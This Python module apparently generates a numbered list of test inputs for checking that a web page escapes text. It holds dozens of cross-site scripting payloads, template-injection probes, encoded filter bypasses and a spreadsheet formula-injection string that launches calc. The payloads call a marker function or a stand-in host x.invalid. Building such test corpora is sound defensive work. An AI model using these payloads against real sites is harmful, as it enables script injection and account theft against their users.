"""Texts that would act as markup or as a script where a page did not escape them, each with a number of its own.

What runs calls ``kbRan`` or ``alert``, or asks the host ``x.invalid``, which a test listens for.
"""

from __future__ import annotations

import itertools
from typing import Final

_RAN: Final = "kbRan({n})"
_ELEMENTS: Final = (
    "<script>{ran}</script>",
    "<ScRiPt >{ran}</sCrIpT>",
    "<script src=//x.invalid/{n}.js></script>",
    '<script type=module>import "//x.invalid/{n}.js"</script>',
    "<img src=x onerror={ran}>",
    "<img src=//x.invalid/{n}.png>",
    '<img srcset="//x.invalid/{n}.png 1x">',
    "<image href=x onerror={ran}>",
    "<svg onload={ran}>",
    "<svg/onload={ran}//",
    "<svg><script>{ran}</script></svg>",
    '<svg><a xlink:href="javascript:{ran}"><text y=9>x</text></a></svg>',
    "<svg><animate onbegin={ran} attributeName=x dur=1s>",
    '<svg><use href="//x.invalid/{n}.svg#x"/></svg>',
    "<svg><foreignObject><img src=x onerror={ran}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={ran}>",
    '<iframe src="javascript:parent.{ran}"></iframe>',
    '<iframe srcdoc="<script>parent.{ran}</script>"></iframe>',
    "<iframe src=//x.invalid/{n}></iframe>",
    '<object data="data:text/html,<script>{ran}</script>"></object>',
    "<embed src=//x.invalid/{n}.swf>",
    "<details open ontoggle={ran}>x</details>",
    "<video><source onerror={ran}></video>",
    "<audio src=x onerror={ran}></audio>",
    "<body onload={ran}>",
    "<input autofocus onfocus={ran}>",
    "<select autofocus onfocus={ran}></select>",
    "<textarea autofocus onfocus={ran}></textarea>",
    "<marquee onstart={ran}>x</marquee>",
    '<form action="javascript:{ran}"><button>x</button></form>',
    '<button formaction="javascript:{ran}">x</button>',
    '<a href="javascript:{ran}">x</a>',
    '<a href="//x.invalid/{n}" ping="//x.invalid/{n}">x</a>',
    "<base href=//x.invalid/{n}/>",
    '<meta http-equiv=refresh content="0;url=//x.invalid/{n}">',
    "<link rel=stylesheet href=//x.invalid/{n}.css>",
    "<link rel=preload as=script href=//x.invalid/{n}.js>",
    '<style>@import "//x.invalid/{n}.css"</style>',
    '<p style="background:url(//x.invalid/{n})">x</p>',
    "<template shadowrootmode=open><img src=x onerror={ran}></template>",
    '<noscript><p title="</noscript><img src=x onerror={ran}>">',
    "<x-y onpointerover={ran} tabindex=1 autofocus onfocus={ran}>x</x-y>",
)
_CLOSERS: Final = (
    '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "</option></select>", "]]>", "</p></main>",
    "</text></svg>", "</details></dl>",
)  # fmt: skip
"""Texts that would end their place in markup."""
_ATTRIBUTES: Final = (
    "onerror={ran}",
    "autofocus onfocus={ran}",
    "onpointerover={ran} style=position:fixed;inset:0",
    "formaction=javascript:{ran}",
    'srcdoc="<script>{ran}</script>"',
    "style=background:url(//x.invalid/{n})",
)
_ADDRESSES: Final = (
    "javascript:{ran}",
    "JaVaScRiPt:{ran}",
    "javascript://x%0a{ran}",
    "java&#x09;script:{ran}",
    "data:text/html,<script>{ran}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{n}",
    "data:image/svg+xml,<svg onload={ran}>",
    "vbscript:{ran}",
    "//x.invalid/{n}",
    "\\\\x.invalid\\{n}",
    "https://x.invalid/{n}?a=<b>&c='d'",
    "/../../x.invalid/{n}",
    "?at={n}&token=x#main",
)
_TEMPLATES: Final = (
    "{{{{ {n} * 7 }}}}",
    "{{% raw %}}{n}",
    "{{% include 'layout.html' %}}{n}",
    "{{# {n} #}}",
    "{{{{ ''.__class__.__mro__ }}}}{n}",
    "{{{{ constructor.constructor('{ran}')() }}}}",
    "${{{ran}}}",
    "#{{{ran}}}",
    "<%= {ran} %>",
    "<?php {ran} ?>",
    "{{0.__class__}}%s%n {n}",
)
_SCRIPTS: Final = (
    "';{ran}//",
    '";{ran}//',
    "`;{ran}//",
    "`${{{ran}}}`",
    "*/{ran}/*",
    "\\';{ran}//",
    "\\u003cscript\\u003e{ran}\\u003c/script\\u003e",
    "</script><!--<script>{ran}",
    "}});{ran};({{",
)
_STYLES: Final = (
    "}}*{{background:url(//x.invalid/{n})}}",
    "width:expression({ran})",
    "background:url(javascript:{ran})",
    "}}</style><script>{ran}</script>",
)
_ENCODED: Final = (
    "&lt;script&gt;{ran}&lt;/script&gt;",
    "&#60;img src=x onerror={ran}&#62;",
    "&amp;lt;b&amp;gt; {n}",
    "%3Cscript%3E{ran}%3C/script%3E",
    "%22%3E%3Cimg src=x onerror={ran}%3E",
    "+ADw-script+AD4-{ran}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{ran}\uff1c/script\uff1e",
    "<scr\u00adipt>{ran}</scr\u00adipt>",
    "<\u200bscript>{ran}</script>",
    "<!--><script>{ran}</script>",
    "<!-- --!><img src=x onerror={ran}>",
    "<![CDATA[<script>{ran}</script>]]>",
    "<a<b<c='\"`> {n}",
    "& &amp &notit; &#x{n}; {n}",
)
_ODD: Final = (
    "שלום עולם {n}",
    "مرحبا {n} بالعالم",
    "\u202e{n}\u202c evil\u2066x\u2069",
    "😀👩\u200d👩\u200d👧\u200d👧🏳️\u200d🌈 {n}",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f{n}",
    "e\u0301 \u00e9 \ufdfa \u3000 {n}",
    "\ufeff{n}\u00a0\u2028".strip() + "x",
    "long{n} " + "x" * 5000,
    "long{n} " + "字" * 3000,
    "=cmd|'/c calc'!A{n}",
)


def texts() -> list[str]:
    """Return all of them: each element alone and after what would end the place where it is, and the others."""
    closers = itertools.cycle(_CLOSERS)
    shapes = [
        *_ELEMENTS,
        *(f"{next(closers)}{one}" for _ in range(3) for one in _ELEMENTS),
        *(f'x" {one} y="' for one in _ATTRIBUTES),
        *(f"x' {one} y='" for one in _ATTRIBUTES),
        *(f"x {one} " for one in _ATTRIBUTES),
        *_ADDRESSES,
        *_TEMPLATES,
        *_SCRIPTS,
        *_STYLES,
        *_ENCODED,
        *_ODD,
    ]
    return [one.format(n=n, ran=_RAN.format(n=n)).strip() for n, one in enumerate(shapes, start=1000)]
